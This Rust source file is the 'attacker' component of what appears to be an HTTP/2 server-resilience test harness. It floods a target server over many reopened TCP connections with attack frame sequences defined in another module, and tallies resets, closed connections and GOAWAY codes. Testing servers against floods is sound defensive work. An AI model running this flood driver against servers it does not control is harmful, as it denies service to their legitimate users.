//! The attacker: plain sockets, written as fast as the server reads, reopened whenever it closes one.

use std::io::{self, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use clap::Args;
use rustix::event::{PollFd, PollFlags, Timespec, poll};
use serde::{Deserialize, Serialize};

use super::attack::{Answer, Attack, Pace};
use super::attacks;
use super::frames::{ACK, END_STREAM, Frames, GOAWAY, HEADER, HEADERS, PING, RST_STREAM, SETTINGS};
use crate::measure;
use crate::process::{self, Ready};

/// Arguments of the attacker.
#[derive(Clone, Debug, PartialEq, Eq, Args)]
pub(crate) struct AttackerOptions {
    /// The attack, by its name.
    #[arg(long)]
    pub(super) attack: String,
    /// The server to attack.
    #[arg(long)]
    pub(super) connect: SocketAddr,
    /// Duration in milliseconds.
    #[arg(long, default_value_t = 10_000)]
    pub(super) window: u64,
    /// The core to run on.
    #[arg(long)]
    pub(super) core: Option<usize>,
}

impl AttackerOptions {
    /// The equivalent command line.
    pub(super) fn to_arguments(&self) -> Vec<String> {
        let mut arguments = vec![
            "floods-attacker".to_owned(),
            format!("--attack={}", self.attack),
            format!("--connect={}", self.connect),
            format!("--window={}", self.window),
        ];
        arguments.extend(self.core.map(|core| format!("--core={core}")));
        arguments
    }
}

/// Main function of the attacker's process.
pub(crate) fn live(options: &AttackerOptions) -> io::Result<()> {
    let attack = attacks::find(&options.attack)
        .ok_or_else(|| io::Error::new(io::ErrorKind::InvalidInput, "no attack of this name"))?;
    process::prepare(options.core)?;
    // It may share its core with the well-behaved client, which would wait for the end of its time slices.
    measure::lower_priority()?;
    process::write_report(&Ready {})?;
    let mut told = io::stdin().lines();
    if told.next().transpose()?.is_some() {
        process::write_report(&run(attack, options.connect, Duration::from_millis(options.window))?)?;
    }
    told.try_for_each(|line| line.map(drop))
}

/// Result of an attack.
#[derive(Clone, Debug, Default, Serialize, Deserialize)]
pub(super) struct Siege {
    /// Number of turns on all connections.
    pub(super) turns: u64,
    /// Bytes accepted by the server's socket.
    pub(super) sent: u64,
    /// Connections closed by the server.
    pub(super) closed: u64,
    /// Streams reset by the server.
    pub(super) resets: u64,
    /// Streams ended by the server.
    pub(super) ended: u64,
    /// The code of the last GOAWAY.
    pub(super) goodbye: Option<u32>,
}

/// Attacks for this long.
pub(super) fn run(attack: &Attack, server: SocketAddr, window: Duration) -> io::Result<Siege> {
    let until = Instant::now() + window;
    let mut siege = Siege::default();
    let mut lines = Vec::with_capacity(attack.connections);
    while lines.len() < attack.connections {
        lines.push(Line::open(attack, server)?);
    }
    while let Some(left) = until.checked_duration_since(Instant::now()) {
        let ready = wait(&lines, left)?;
        for (line, ready) in lines.iter_mut().zip(ready) {
            if !line.go_on(ready)? {
                siege.closed += 1;
                siege.add(&std::mem::replace(line, Line::open(attack, server)?));
            }
        }
    }
    lines.iter().for_each(|line| siege.add(line));
    Ok(siege)
}

impl Siege {
    fn add(&mut self, line: &Line<'_>) {
        let Answers { ended, resets, goodbye, .. } = line.answers;
        self.turns += u64::from(line.turns);
        self.sent += line.taken;
        self.ended += u64::from(ended);
        self.resets += u64::from(resets);
        self.goodbye = goodbye.or(self.goodbye);
    }
}

/// Waits until one of the connections is ready, at most this long: polling a thousand of them
/// periodically would take time from the well-behaved client. Returns the readiness of each.
fn wait(lines: &[Line<'_>], left: Duration) -> io::Result<Vec<PollFlags>> {
    let left = Timespec { tv_sec: left.as_secs() as i64, tv_nsec: left.subsec_nanos().into() };
    let mut sockets: Vec<_> = lines.iter().map(|line| PollFd::new(&line.socket, line.interest())).collect();
    match poll(&mut sockets, Some(&left)) {
        Ok(_) | Err(rustix::io::Errno::INTR) => {}
        Err(error) => return Err(error.into()),
    }
    Ok(sockets.iter().map(PollFd::revents).collect())
}

/// One connection of the attacker.
#[derive(Debug)]
struct Line<'a> {
    attack: &'a Attack,
    socket: TcpStream,
    frames: Frames,
    /// Number of sent bytes of the frames.
    sent: usize,
    turns: u32,
    /// Bytes accepted by the socket in total.
    taken: u64,
    answers: Answers,
}

/// Size of one write.
const FILL: usize = 64 << 10;

impl<'a> Line<'a> {
    fn open(attack: &'a Attack, server: SocketAddr) -> io::Result<Self> {
        let socket = TcpStream::connect(server)?;
        socket.set_nodelay(true)?;
        socket.set_nonblocking(true)?;
        let mut frames = Frames::begin();
        (attack.opening)(&mut frames);
        Ok(Self { attack, socket, frames, sent: 0, turns: 0, taken: 0, answers: Answers::default() })
    }

    fn interest(&self) -> PollFlags {
        let mut interest = if self.attack.reads { PollFlags::IN } else { PollFlags::RDHUP };
        if self.sent < self.frames.bytes.len() || self.may_turn() {
            interest |= PollFlags::OUT;
        }
        interest
    }

    /// Reads and writes as far as possible. `false`: the server has closed the connection.
    fn go_on(&mut self, ready: PollFlags) -> io::Result<bool> {
        let over = PollFlags::RDHUP | PollFlags::HUP | PollFlags::ERR;
        if (self.attack.reads || ready.intersects(over))
            && ready.intersects(PollFlags::IN | over)
            && !self.read()?
        {
            return Ok(false);
        }
        if ready.contains(PollFlags::OUT) {
            self.fill();
            return self.write();
        }
        Ok(true)
    }

    /// Generates turns until there is enough to write.
    fn fill(&mut self) {
        if self.sent == self.frames.bytes.len() {
            self.frames.bytes.clear();
            self.sent = 0;
        }
        while self.frames.bytes.len() - self.sent < FILL && self.may_turn() {
            (self.attack.turn)(&mut self.frames, self.turns);
            self.turns += 1;
        }
    }

    fn may_turn(&self) -> bool {
        match self.attack.pace {
            Pace::Flood => true,
            Pace::InStep(ahead, answer) => self.turns < ahead + self.answers.count(answer),
            Pace::Once => false,
        }
    }

    fn write(&mut self) -> io::Result<bool> {
        match self.socket.write(&self.frames.bytes[self.sent..]) {
            Ok(written) => {
                self.sent += written;
                self.taken += written as u64;
                Ok(true)
            }
            Err(error) if error.kind() == io::ErrorKind::WouldBlock => Ok(true),
            Err(error) if is_over(&error) => self.read(),
            Err(error) => Err(error),
        }
    }

    /// Reads everything available.
    fn read(&mut self) -> io::Result<bool> {
        let mut buffer = [0; FILL];
        loop {
            match self.socket.read(&mut buffer) {
                Ok(0) => return Ok(false),
                Ok(read) => self.answers.take(&buffer[..read]),
                Err(error) if error.kind() == io::ErrorKind::WouldBlock => return Ok(true),
                Err(error) if is_over(&error) => return Ok(false),
                Err(error) => return Err(error),
            }
        }
    }
}

fn is_over(error: &io::Error) -> bool {
    matches!(error.kind(), io::ErrorKind::ConnectionReset | io::ErrorKind::BrokenPipe)
}

/// Counters of the server's frames on a connection.
#[derive(Debug, Default)]
struct Answers {
    /// The start of an incomplete frame.
    rest: Vec<u8>,
    ended: u32,
    resets: u32,
    acks: u32,
    goodbye: Option<u32>,
}

impl Answers {
    fn count(&self, answer: Answer) -> u32 {
        match answer {
            Answer::End => self.ended,
            Answer::Ack => self.acks,
        }
    }

    fn take(&mut self, bytes: &[u8]) {
        let mut all = std::mem::take(&mut self.rest);
        all.extend_from_slice(bytes);
        let mut rest = &all[..];
        while let Some(&[l0, l1, l2, kind, flags, ..]) = rest.first_chunk::<HEADER>() {
            let length = u32::from_be_bytes([0, l0, l1, l2]) as usize;
            let Some((frame, behind)) = rest.split_at_checked(HEADER + length) else { break };
            self.note(kind, flags, &frame[HEADER..]);
            rest = behind;
        }
        self.rest = rest.to_vec();
    }

    fn note(&mut self, kind: u8, flags: u8, payload: &[u8]) {
        match (kind, payload) {
            (HEADERS, _) if flags & END_STREAM != 0 => self.ended += 1,
            (RST_STREAM, _) => self.resets += 1,
            (SETTINGS | PING, _) if flags & ACK != 0 => self.acks += 1,
            (GOAWAY, &[_, _, _, _, a, b, c, d, ..]) => {
                self.goodbye = Some(u32::from_be_bytes([a, b, c, d]));
            }
            _ => {}
        }
    }
}
